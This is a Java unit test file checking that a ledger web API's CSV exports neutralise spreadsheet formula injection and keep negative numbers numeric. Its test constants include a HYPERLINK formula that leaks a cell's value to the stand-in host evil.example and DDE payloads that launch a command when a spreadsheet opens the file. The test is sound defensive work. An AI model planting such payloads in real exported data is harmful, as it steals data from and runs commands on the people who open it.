package org.powledger.web.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.Mockito.when;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.powledger.domain.fixtures.LedgerFixtures;
import org.powledger.domain.model.ExchangeId;
import org.powledger.domain.model.ExchangeRecord;
import org.powledger.domain.model.Metric;
import org.powledger.domain.model.Page;
import org.powledger.domain.model.ReportId;
import org.powledger.domain.model.ReportScope;
import org.powledger.domain.statistics.ReconciliationItem;
import org.powledger.domain.statistics.ReconciliationStatus;
import org.powledger.web.ApiTest;

/** No CSV answer hands a spreadsheet a formula to run; numbers stay numbers. */
class CsvFormulaTest extends ApiTest {

    static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
    static final String CALC = "+cmd|' /C calc'!A0";

    @Test
    void text_cells_that_a_spreadsheet_would_run_get_a_leading_quote() {
        ExchangeRecord hostile = new ExchangeRecord(ExchangeId.of("ex_0123456789abcdef"), 1, 1, CREATED, UPDATED,
                LedgerFixtures.exchange().ref(HYPERLINK).mediators(CALC).notes("@SUM(1+1)*cmd|' /C calc'!A0")
                        .line("afu", 3).build());
        when(exchanges.list(any(), any())).thenReturn(new Page<>(List.of(hostile), null));
        api(client -> {
            List<String> row = cells(client.get("/api/v1/exchanges?format=csv&limit=10").send().body(), 1);

            assertThat(row).contains("'" + HYPERLINK, "'" + CALC, "'@SUM(1+1)*cmd|' /C calc'!A0")
                    .doesNotContain(HYPERLINK, CALC);
            assertThat(row).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                    && !cell.matches("-?\\d+"));
        });
    }

    @Test
    void a_negative_difference_stays_a_number() {
        when(statistics.reconciliation(any(), any())).thenReturn(List.of(new ReconciliationItem(ReportId.of("rp_year"),
                ReportScope.ofYear(2024), Metric.PEOPLE_RETURNED, 1242, 1200, -42, ReconciliationStatus.LEDGER_BELOW)));
        api(client -> {
            String csv = client.get("/api/v1/stats/reconciliation").header("Accept", "text/csv").send().body();
            List<String> header = cells(csv, 0);
            List<String> row = cells(csv, 1);

            assertThat(row.get(header.indexOf("difference"))).isEqualTo("-42");
        });
    }

    @Test
    void neutralising_and_restoring_are_each_others_inverse() {
        for (String text : List.of(HYPERLINK, CALC, "-1+2", "@x", "\tx", "\rx", "plain", "'quoted", "", "-42", "+7")) {
            assertThat(CsvCells.restore(CsvCells.neutralise(text))).as(text).isEqualTo(text);
        }
        assertThat(CsvCells.neutralise("-42")).isEqualTo("-42");
        assertThat(CsvCells.neutralise("-4.5")).isEqualTo("-4.5");
        assertThat(CsvCells.neutralise("-1+2")).isEqualTo("'-1+2");
        assertThat(CsvCells.neutralise("\t=1")).isEqualTo("'\t=1");
        assertThat(CsvCells.neutralise("'=1")).isEqualTo("'=1");
    }

    /** Row {@code index} of a CSV answer, split on commas outside quotes (enough for these rows). */
    private static List<String> cells(String csv, int index) {
        String line = csv.split("\r\n")[index];
        List<String> cells = new java.util.ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (c == '"') {
                if (quoted && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else {
                    quoted = !quoted;
                }
            } else if (c == ',' && !quoted) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
